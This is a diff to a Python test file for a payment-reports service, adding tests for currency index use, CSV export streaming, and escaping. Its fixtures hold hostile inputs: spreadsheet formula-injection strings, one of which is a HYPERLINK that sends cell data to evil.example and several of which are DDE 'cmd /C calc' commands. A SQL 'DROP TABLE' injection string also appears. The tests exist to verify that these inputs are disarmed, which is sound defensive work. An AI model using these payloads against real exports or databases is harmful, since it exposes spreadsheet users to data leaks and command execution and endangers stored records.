@@ -6,7 +6,7 @@ import asyncio
 import csv
 import io
 import itertools
-from collections.abc import Callable
+from collections.abc import AsyncIterator, Callable
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
@@ -18,10 +18,17 @@ from aiohttp.test_utils import TestClient
 from config.settings import Settings
 from engine import errors, reports
 from engine.merchants import keys
-from engine.models import HistoryItem
+from engine.models import HistoryItem, HistoryKind
 from engine.reports import PaymentQuery
 from engine.store.queries import load
-from engine.store.reports import PAGE, SEARCH_PAGE, ReportsStore, item, page_statement
+from engine.store.reports import (
+    FILTER_PAGE,
+    PAGE,
+    SEARCH_PAGE,
+    ReportsStore,
+    item,
+    page_statement,
+)
 from engine.store.repository import Repository
 from engine.worker.process import Worker
 from simulator.server import SimulatorHandle
@@ -144,6 +151,26 @@ async def test_a_search_lists_the_same_from_its_matches_as_by_walking_the_histor
                     assert got == items[n + 1 : n + 3], (query, n)
 
 
+async def test_a_currency_is_compared_as_the_column_is_so_its_index_serves(
+    pool: asyncpg.Pool, data: Data
+) -> None:
+    # currency is char(3); compared with a text parameter, the column was cast to text and its
+    # index (payment_search_currency_history_idx) could only be skipped through, not searched
+    # (a payment + FAILED + USD + 7 days page read every currency's rows of those 7 days).
+    query = PaymentQuery(currency="USD", statuses=frozenset({"PENDING", "REFUNDED"}))
+    args = query.params(MID, "test", None, 51)
+    async with pool.acquire() as conn, conn.transaction():
+        await conn.execute(Q["custom_plans"])
+        statement = await page_statement(conn, args)
+        assert statement == FILTER_PAGE
+        plan = "\n".join(r[0] for r in await conn.fetch(f"EXPLAIN {statement}", *args))
+        rows = await conn.fetch(statement, *args)
+    # Every branch compares char(3) with char(3): an index on the column can be searched.
+    assert plan.count("(currency = 'USD'::bpchar)") == 2 and "(currency)::text" not in plan, plan
+    want = data.expected(MID, "test", lambda r: r.currency == "USD" and r.status in query.statuses)
+    assert [(r["kind"], r["id"]) for r in rows] == _want(want) and want
+
+
 async def test_a_tid_is_found_exactly_and_a_pasted_reference_opens_it(
     store: ReportsStore, data: Data
 ) -> None:
@@ -205,6 +232,16 @@ async def test_paging_under_inserts_has_no_duplicates_and_no_gaps(
     assert walked == sorted(walked, reverse=True)
 
 
+async def _export(store: ReportsStore, mid: str, mode: str, query: PaymentQuery) -> bytes:
+    chunks: list[bytes] = []
+
+    async def write(chunk: bytes) -> None:
+        chunks.append(chunk)
+
+    await reports.export_csv(store, mid, mode, query, write)
+    return b"".join(chunks)
+
+
 async def test_the_csv_equals_the_pages_concatenated(store: ReportsStore, data: Data) -> None:
     query = PaymentQuery(kinds=frozenset({"payment", "refund"}))
     chunks = [
@@ -214,8 +251,7 @@ async def test_the_csv_equals_the_pages_concatenated(store: ReportsStore, data: 
         )
     ]
     assert len(chunks) > 2
-    fast = [c async for c in reports.export_csv(store, MID, "test", query, batch=3)]
-    assert b"".join(fast) == b"".join(chunks)
+    assert await _export(store, MID, "test", query) == b"".join(chunks)
     lines = list(csv.reader(io.StringIO(b"".join(chunks).decode())))
     assert tuple(lines[0]) == reports.CSV_HEADER
     pages = await _all_pages(store, MID, "test", query, 2)
@@ -235,6 +271,133 @@ async def test_the_csv_equals_the_pages_concatenated(store: ReportsStore, data: 
         for i in pages
     ]
     assert lines[1][-1].endswith("Z") and datetime.fromisoformat(lines[1][-1]).tzinfo == UTC
+
+
+# Text a merchant or its customers control, as a spreadsheet would run it, and the cell the
+# export writes for it (written straight into the table: the API refuses control characters,
+# older rows or another writer might not).
+FORMULAS = [
+    (
+        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    ),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    # Not at the start: left as it is, and quoted, so a ; or , inside starts no new cell.
+    ('Mug;=1+1,"big"', 'Mug;=1+1,"big"'),
+    # Line breaks and quotes inside a cell, one that ends like a line does (Z" then \n).
+    ('two\nlines Z"\nand\r\nmore "quoted"', 'two\nlines Z"\nand\r\nmore "quoted"'),
+    ("한글 \uff1d1+1", "한글 \uff1d1+1"),  # a full-width equals sign: not a formula
+]
+
+
+async def test_the_csv_disarms_spreadsheet_formulas_in_every_text_cell(
+    pool: asyncpg.Pool, store: ReportsStore
+) -> None:
+    d = Data(pool)
+    for n, (name, _) in enumerate(FORMULAS):
+        await d.payment(MID, f"ORD-{n}", minute=n, name=name, amount=1000 + n)
+    # An order id and a customer id are the merchant's words too; the tid a text cell.
+    await d.payment(MID, "-1000", minute=30, customer="=cmd|' /C calc'!A0", amount=9)
+    await d.pool.execute("UPDATE payment_processes SET tid = '-' || tid WHERE order_id = '-1000'")
+    query = PaymentQuery()
+    text = await _export(store, MID, "test", query)
+    reference = [
+        c async for c in reports.csv_chunks(reports.export_batches(store, MID, "test", query))
+    ]
+    assert text == b"".join(reference)  # PostgreSQL's lines are Python's csv module's
+    header, body = text.split(b"\r\n", 1)
+    assert header == b",".join(b'"%s"' % h.encode() for h in reports.CSV_HEADER)
+    lines = list(csv.reader(io.StringIO(text.decode(), newline="")))
+    by_order = {line[3]: line for line in lines[1:]}
+    for n, (_, written) in enumerate(FORMULAS):
+        line = by_order[f"ORD-{n}"]
+        assert line[4] == written, line
+        assert line[6] == str(1000 + n)  # the amount: a number, as it is
+    hostile = by_order["'-1000"]
+    assert hostile[1].startswith("'-REPT_") and hostile[5] == "'=cmd|' /C calc'!A0"
+    assert hostile[6] == "9"
+    # Each line ends in CRLF (a break inside a cell stays as it was); every cell is quoted
+    # but the amount.
+    records = body.split(b'Z"\r\n')
+    assert len(records) == len(lines) and records[-1] == b""
+    for record, line in zip(records, lines[1:], strict=False):
+        assert record.startswith(b'"') and b',%s,"' % line[6].encode() in record, record
+
+
+async def test_the_reference_writer_leaves_numbers_alone() -> None:
+    assert reports.cell("-5") == "'-5" and reports.cell("=1") == "'=1"
+    assert reports.cell(None) == reports.cell("") == "" and reports.cell("a=1") == "a=1"
+    row = HistoryItem(
+        kind=HistoryKind.REFUND,
+        id=1,
+        tid="T1",
+        refund_id="+R1",
+        order_id="O1",
+        order_name=None,
+        user_public_id="@u",
+        amount=-500,
+        currency="KRW",
+        status="REFUNDED",
+        created_at=datetime(2026, 1, 31, 9, tzinfo=UTC),
+    )
+
+    async def batches() -> AsyncIterator[list[HistoryItem]]:
+        yield [row]
+
+    written = b"".join([c async for c in reports.csv_chunks(batches())])
+    assert written.split(b"\r\n")[1] == (
+        b'"refund","T1","\'+R1","O1","","\'@u",-500,"KRW","REFUNDED","2026-01-31T09:00:00.000000Z"'
+    )
+
+
+async def test_a_search_with_quotes_breaks_and_dollars_exports_what_the_page_lists(
+    pool: asyncpg.Pool, store: ReportsStore
+) -> None:
+    # The export's COPY takes no parameters: asyncpg puts them in the statement as literals
+    # (quoted by the server). A value must stay a value, whatever it holds.
+    d = Data(pool)
+    odd = "O'x $1 $8 -- \\ \n); DROP TABLE payment_processes; --"
+    await d.payment(MID, odd + " one", minute=1, name="=a")
+    await d.payment(MID, odd + " two", minute=2)
+    await d.payment(MID, "O'x other", minute=3)
+    query = PaymentQuery(search=odd, created_from=at(0), amount_min=1)
+    lines = list(csv.reader(io.StringIO((await _export(store, MID, "test", query)).decode())))
+    pages = await _all_pages(store, MID, "test", query, 1)
+    assert (
+        [line[3] for line in lines[1:]]
+        == [i.order_id for i in pages]
+        == [
+            odd + " two",
+            odd + " one",
+        ]
+    )
+    assert await pool.fetchval("SELECT count(*) FROM payment_processes") == 3
+
+
+async def test_an_export_whose_client_goes_away_stops_and_frees_its_connection(
+    database_url: str, data: Data
+) -> None:
+    async with asyncpg.create_pool(database_url, min_size=1, max_size=1) as one:
+        small = ReportsStore(one)
+        writes = 0
+
+        async def write(chunk: bytes) -> None:
+            nonlocal writes
+            writes += 1
+            if writes == 2:  # the header went; the first lines do not
+                raise ConnectionResetError("the client went away")
+
+        with pytest.raises(ConnectionResetError):
+            await reports.export_csv(small, MID, "test", PaymentQuery(), write)
+        # The one connection serves the next reader: no COPY left running on it.
+        got = await reports.page(small, MID, "test", PaymentQuery(), None, 50, secret=SECRET)
+        assert _seen(got.rows) == _want(data.expected(MID, "test"))
+        copying = "SELECT count(*) FROM pg_stat_activity WHERE state = 'active' AND query ^@ 'COPY'"
+        assert await one.fetchval(copying) == 0
 
 
 async def test_the_api_lists_what_the_export_holds(
